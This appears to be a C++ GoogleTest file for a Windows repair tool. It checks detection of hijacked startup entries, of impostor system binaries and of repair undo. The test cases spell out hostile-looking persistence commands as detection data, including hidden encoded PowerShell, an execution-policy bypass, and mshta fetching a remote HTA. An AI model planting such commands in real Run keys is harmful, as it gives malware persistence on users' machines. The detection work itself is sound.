#include <gtest/gtest.h>

#include "repair/commands/CommandLineArguments.h"
#include "repair/commands/SystemProgramNames.h"
#include "repair/startup/StartupCommand.h"
#include "repair/startup/StartupEntries.h"
#include "tests/native/RepairFixture.h"
#include "text/RegistryEncoding.h"

namespace tovask::test {
namespace {

struct CommandCase {
    std::string name;
    std::wstring command;
    bool hijack;

    friend void PrintTo(const CommandCase& c, std::ostream* out) { *out << c.name; }
};

class StartupCommands : public testing::TestWithParam<CommandCase> {};

TEST_P(StartupCommands, AreJudgedByWhatTheyStart) {
    EXPECT_EQ(startupCommandHijack(GetParam().command).has_value(), GetParam().hijack);
}

// clang-format off
INSTANTIATE_TEST_SUITE_P(
    Commands, StartupCommands,
    testing::Values(
        CommandCase{"ChromeWithAddress", LR"("C:\Program Files\Google\Chrome\Application\chrome.exe" https://buscar.example)", true},
        CommandCase{"EdgeLoadsExtension", LR"(C:\Program Files (x86)\Microsoft\Edge\Application\msedge.exe --load-extension=C:\Users\ana\AppData\Local\x)", true},
        CommandCase{"ChromeAppWindow", LR"(chrome.exe --app=http://anuncios.example)", true},
        CommandCase{"YandexWithAddress", LR"("C:\Users\ana\AppData\Local\Yandex\YandexBrowser\Application\browser.exe" https://buscar.example)", true},
        CommandCase{"OtherBrowserExeWithAddress", LR"("C:\Juegos\browser.exe" https://juegos.example)", false},
        CommandCase{"OperaLauncherWithAddress", LR"("%LOCALAPPDATA%\Programs\Opera\launcher.exe" https://buscar.example)", true},
        CommandCase{"ChromiumLoadsExtension", LR"(D:\Chromium\chromium.exe --load-extension=C:\Users\ana\x)", true},
        CommandCase{"ChromeNoStartupWindow", LR"("C:\Program Files\Google\Chrome\Application\chrome.exe" --no-startup-window /prefetch:5)", false},
        CommandCase{"PowerShellEncoded", LR"(powershell.exe -NoP -W Hidden -enc SQBFAFgA)", true},
        CommandCase{"PwshEncodedShortest", LR"(pwsh -e SQBFAFgA)", true},
        CommandCase{"PowerShellExecutionPolicyOnly", LR"(powershell.exe -ex bypass -file "C:\Program Files\Vendor\tarea.ps1")", false},
        CommandCase{"PowerShellScriptInAppData", LR"(powershell.exe -file "%APPDATA%\x\carga.ps1")", true},
        CommandCase{"MshtaAddress", LR"(mshta.exe http://carga.example/a.hta)", true},
        CommandCase{"CmdStartsAddress", LR"(cmd /c start https://anuncios.example)", true},
        CommandCase{"Rundll32Address", LR"(rundll32.exe url.dll,FileProtocolHandler http://anuncios.example)", true},
        CommandCase{"WscriptScriptInUsers", LR"(wscript.exe "C:\Users\ana\AppData\Roaming\s.vbs")", true},
        CommandCase{"ScriptFileInTemp", LR"("C:\Windows\Temp\a.bat")", true},
        CommandCase{"Rundll32SystemDll", LR"(rundll32.exe C:\Windows\System32\shell32.dll,Control_RunDLL)", false},
        CommandCase{"ExplorerAlone", L"explorer.exe", false},
        CommandCase{"ConhostRunsCleanup", LR"(C:\Windows\System32\conhost.exe --headless C:\Windows\System32\cleanmgr.exe /autoclean)", false},
        CommandCase{"Regsvr32LocalLibrary", LR"(regsvr32 /s C:\Windows\System32\vbscript.dll)", false},
        CommandCase{"MsiexecLocalPackage", LR"(msiexec /i C:\instaladores\a.msi /q)", false},
        CommandCase{"OrdinaryProgram", LR"("C:\Program Files\Vendor\Updater.exe" /silent https://vendor.example)", false},
        CommandCase{"Empty", L"", false}),
    [](const testing::TestParamInfo<CommandCase>& info) { return info.param.name; });
// clang-format on

struct SystemNameCase {
    std::string name;
    std::wstring command;
    bool is64Bit;
    bool impostor;

    friend void PrintTo(const SystemNameCase& c, std::ostream* out) { *out << c.name; }
};

class SystemProgramNames : public testing::TestWithParam<SystemNameCase> {};

// Windows in C:\Windows; a relative path starts from System32.
TEST_P(SystemProgramNames, AreWindowsOwnOnlyInTheirFolders) {
    const WindowsProgramFolders folders{L"C:\\Windows", GetParam().is64Bit};
    EXPECT_EQ(
        systemNameImpostor(programOfCommand(GetParam().command), folders, L"C:\\Windows\\System32")
            .has_value(),
        GetParam().impostor);
}

// clang-format off
INSTANTIATE_TEST_SUITE_P(
    Names, SystemProgramNames,
    testing::Values(
        SystemNameCase{"InRoaming", LR"(C:\Users\x\AppData\Roaming\svchost.exe)", true, true},
        SystemNameCase{"InTheWindowsFolder", LR"(C:\Windows\svchost.exe)", true, true},
        SystemNameCase{"InSystem32", LR"(C:\Windows\System32\svchost.exe -k netsvcs)", false, false},
        SystemNameCase{"In32BitSystemOn64Bit", LR"(C:\Windows\SysWOW64\svchost.exe)", true, false},
        SystemNameCase{"In32BitSystemOn32Bit", LR"(C:\Windows\SysWOW64\svchost.exe)", false, true},
        SystemNameCase{"SessionProgramHasNo32BitCopy", LR"(C:\Windows\SysWOW64\lsass.exe)", true, true},
        SystemNameCase{"ThroughSysnative", LR"(C:\Windows\Sysnative\cmd.exe /c x)", true, false},
        SystemNameCase{"SystemRootVariable", LR"(%SystemRoot%\system32\svchost.exe -k netsvcs)", true, false},
        SystemNameCase{"KernelSystemRoot", LR"(\SystemRoot\System32\services.exe)", true, false},
        SystemNameCase{"DriverIsNoneOfThem", LR"(\SystemRoot\System32\drivers\x.sys)", true, false},
        SystemNameCase{"ObjectManagerPrefix", LR"(\??\C:\Windows\System32\lsass.exe)", true, false},
        SystemNameCase{"LongPathPrefixElsewhere", LR"("\\?\C:\ProgramData\lsass.exe")", true, true},
        SystemNameCase{"ShareBehindThePrefix", LR"(\??\UNC\servidor\c$\Windows\System32\cmd.exe)", true, true},
        SystemNameCase{"ExplorerInWindows", LR"(C:\Windows\explorer.exe)", false, false},
        SystemNameCase{"ExplorerInSystem32", LR"(C:\Windows\System32\explorer.exe)", true, true},
        SystemNameCase{"PowerShellInItsFolder", LR"(%windir%\SysWOW64\WindowsPowerShell\v1.0\powershell.exe -nop)", true, false},
        SystemNameCase{"PowerShellInSystem32", LR"(C:\Windows\System32\powershell.exe)", true, true},
        SystemNameCase{"BareNameIsFoundBySearch", LR"(rundll32.exe shell32.dll,Control_RunDLL)", true, false},
        SystemNameCase{"WithoutItsExtension", LR"(C:\Users\x\svchost -k netsvcs)", true, true},
        SystemNameCase{"QuotedInAnotherCase", LR"("c:\windows\SYSTEM32\SvcHost.EXE" -k x)", true, false},
        SystemNameCase{"ClimbsOutOfSystem32", LR"(C:\Windows\System32\..\csrss.exe)", true, true},
        SystemNameCase{"ClimbsIntoSystem32", LR"(%SystemDrive%\Temp\..\Windows\System32\dllhost.exe)", true, false},
        SystemNameCase{"RelativeClimbsOut", LR"(..\winlogon.exe)", true, true},
        SystemNameCase{"ShortNameIsNotExpanded", LR"(C:\WINDOW~1\System32\svchost.exe)", true, true},
        SystemNameCase{"OtherVariable", LR"(%APPDATA%\svchost.exe)", true, true},
        SystemNameCase{"OtherProgram", LR"(C:\Users\x\AppData\Roaming\actualiza.exe)", true, false}),
    [](const testing::TestParamInfo<SystemNameCase>& info) { return info.param.name; });
// clang-format on

constexpr std::wstring_view kMachineRun =
    L"HKLM\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\";
constexpr std::wstring_view kUserRunOnce =
    L"HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\RunOnce\\";

TEST(StartupEntries, CheckRepairCheckAndUndoPutTheValuesBack) {
    RepairBench bench;
    bench.platform.registry.twoViews = true;
    bench.platform.registry.addKeysEveryWindowsHas();
    ASSERT_FALSE(bench.platform.RegWriteRaw(kMachineRun, L"Actualizar",
                                            stringValue(L"chrome.exe https://buscar.example"),
                                            RegistryView::Bits32));
    ASSERT_FALSE(bench.platform.RegWriteRaw(kMachineRun, L"Sonido",
                                            stringValue(L"C:\\Program Files\\Audio\\audio.exe"),
                                            RegistryView::Bits64));
    bench.platform.RegWrite(std::wstring(kUserRunOnce) + L"x", L"powershell -enc SQBFAFgA",
                            RegistryType::String);
    const auto before = bench.platform.registry.snapshot();
    bench.load();
    bench.view.repairFindings = true;
    ASSERT_EQ(bench.check(), RunOutcome::RepairNeeded);
    bench.press();
    EXPECT_TRUE(bench.errorLines().empty());
    EXPECT_FALSE(
        bench.platform.RegReadValue(std::wstring(kMachineRun) + L"Actualizar", RegistryView::Bits32)
            .ok());
    EXPECT_TRUE(
        bench.platform.RegReadValue(std::wstring(kMachineRun) + L"Sonido", RegistryView::Bits64)
            .ok());
    EXPECT_EQ(bench.check(), RunOutcome::Done);
    bench.undo();
    EXPECT_EQ(bench.platform.registry.snapshot(), before);
    EXPECT_TRUE(
        bench.platform.RegReadValue(std::wstring(kMachineRun) + L"Actualizar", RegistryView::Bits32)
            .ok());
}

// What a machine whose Run key holds the command finds there.
std::vector<RemovableValue> foundFor(std::wstring_view command, bool managedMachine) {
    fake::FakePlatform platform;
    platform.RegWrite(std::wstring(kMachineRun) + L"x", command, RegistryType::String);
    FailureLog failures(platform);
    return findStartupEntries(platform, {}, managedMachine, failures);
}

TEST(StartupEntries, AScriptThatCannotBeReadIsReportOnly) {
    const auto found = foundFor(L"powershell -w hidden -ep bypass -enc %", false);
    ASSERT_EQ(found.size(), 1u);
    EXPECT_FALSE(found[0].finding.repairable);
}

TEST(StartupEntries, AreReportOnlyOnAManagedMachine) {
    const auto found = foundFor(L"mshta http://a.example", true);
    ASSERT_EQ(found.size(), 1u);
    EXPECT_FALSE(found[0].finding.repairable);
}

// What the Run key holding the command gives on a Windows in that folder.
std::vector<RemovableValue> foundBesideWindows(std::wstring_view command,
                                               std::wstring_view windows = L"C:\\Windows") {
    fake::FakePlatform platform;
    platform.RegWrite(std::wstring(kMachineRun) + L"x", command, RegistryType::String);
    FailureLog failures(platform);
    return findStartupEntries(platform, {}, false, failures,
                              ServedHijacks({}, SystemFolders(windows, {})));
}

TEST(StartupEntries, ACopyNamedAsWindowsOwnSaysWhereItResolves) {
    const auto found = foundBesideWindows(L"..\\svchost.exe -k x");
    ASSERT_EQ(found.size(), 1u);
    EXPECT_TRUE(found[0].finding.holds.ends_with(L"C:\\Windows"));
}

TEST(StartupEntries, ACopyNamedAsWindowsOwnIsRepairableThoughItsScriptCannotBeRead) {
    const auto found =
        foundBesideWindows(L"C:\\Users\\ana\\powershell.exe -w hidden -ep bypass -enc %");
    ASSERT_EQ(found.size(), 1u);
    EXPECT_TRUE(found[0].finding.repairable);
}

TEST(StartupEntries, NoCopyIsJudgedWhereTheWindowsFolderIsUnknown) {
    EXPECT_TRUE(foundBesideWindows(L"C:\\Users\\ana\\svchost.exe", L"").empty());
}

}  // namespace
}  // namespace tovask::test

namespace tovask::test {
namespace {

struct StartupReachCase {
    std::string name;
    RegistryFileSection section;
    bool within;

    friend void PrintTo(const StartupReachCase& c, std::ostream* out) { *out << c.name; }
};

class StartupBackupReach : public testing::TestWithParam<StartupReachCase> {};

TEST_P(StartupBackupReach, CoversOnlyValuesPutBackInRunKeys) {
    EXPECT_EQ(withinStartupReach(GetParam().section, true), GetParam().within);
}

const RegistryFileEntry kRunEntry{L"x", stringValue(L"chrome.exe https://a.example")};
constexpr std::wstring_view kRunInFile = L"\\Software\\Microsoft\\Windows\\CurrentVersion\\Run";

// clang-format off
INSTANTIATE_TEST_SUITE_P(
    Sections, StartupBackupReach,
    testing::Values(
        StartupReachCase{"Machine32", {L"HKEY_LOCAL_MACHINE\\Software\\WOW6432Node\\Microsoft\\Windows\\CurrentVersion\\RunOnce", false, {kRunEntry}}, true},
        StartupReachCase{"UserAccount", {L"HKEY_USERS\\S-1-5-21-1-2-3-1001" + std::wstring(kRunInFile), false, {kRunEntry}}, true},
        StartupReachCase{"SystemAccount", {L"HKEY_USERS\\S-1-5-18" + std::wstring(kRunInFile), false, {kRunEntry}}, false},
        StartupReachCase{"ADeletion", {L"HKEY_LOCAL_MACHINE" + std::wstring(kRunInFile), false, {{L"x", std::nullopt}}}, false},
        StartupReachCase{"BelowRun", {L"HKEY_LOCAL_MACHINE" + std::wstring(kRunInFile) + L"\\x", false, {kRunEntry}}, false},
        StartupReachCase{"Winlogon", {L"HKEY_LOCAL_MACHINE\\Software\\Microsoft\\Windows NT\\CurrentVersion\\Winlogon", false, {kRunEntry}}, false},
        StartupReachCase{"PolicyRun", {L"HKEY_LOCAL_MACHINE\\Software\\Microsoft\\Windows\\CurrentVersion\\Policies\\Explorer\\Run", false, {kRunEntry}}, true},
        StartupReachCase{"UsersRunServices", {L"HKEY_USERS\\S-1-5-21-1-2-3-1001\\Software\\Microsoft\\Windows\\CurrentVersion\\RunServices", false, {kRunEntry}}, true},
        StartupReachCase{"MachinesUserinit", {L"HKEY_LOCAL_MACHINE\\SOFTWARE\\WOW6432Node\\Microsoft\\Windows NT\\CurrentVersion\\Winlogon", false, {{L"Userinit", stringValue(L"userinit.exe,")}}}, true},
        StartupReachCase{"MachinesShell", {L"HKEY_LOCAL_MACHINE\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\Winlogon", false, {{L"Shell", stringValue(L"explorer.exe")}}}, false},
        StartupReachCase{"UsersShell", {L"HKEY_USERS\\S-1-5-21-1-2-3-1001\\Software\\Microsoft\\Windows NT\\CurrentVersion\\Winlogon", false, {{L"Shell", stringValue(L"a.exe")}}}, true},
        StartupReachCase{"UsersUserinit", {L"HKEY_USERS\\S-1-5-21-1-2-3-1001\\Software\\Microsoft\\Windows NT\\CurrentVersion\\Winlogon", false, {{L"Userinit", stringValue(L"a.exe")}}}, false},
        StartupReachCase{"ActiveSetupComponent", {L"HKEY_LOCAL_MACHINE\\SOFTWARE\\Microsoft\\Active Setup\\Installed Components\\{1}", false, {{L"StubPath", stringValue(L"a.exe")}}}, true},
        StartupReachCase{"ActiveSetupItself", {L"HKEY_LOCAL_MACHINE\\SOFTWARE\\Microsoft\\Active Setup\\Installed Components", false, {kRunEntry}}, false},
        StartupReachCase{"UsersActiveSetup", {L"HKEY_USERS\\S-1-5-21-1-2-3-1001\\SOFTWARE\\Microsoft\\Active Setup\\Installed Components\\{1}", false, {kRunEntry}}, false}),
    [](const testing::TestParamInfo<StartupReachCase>& info) { return info.param.name; });
// clang-format on

}  // namespace
}  // namespace tovask::test
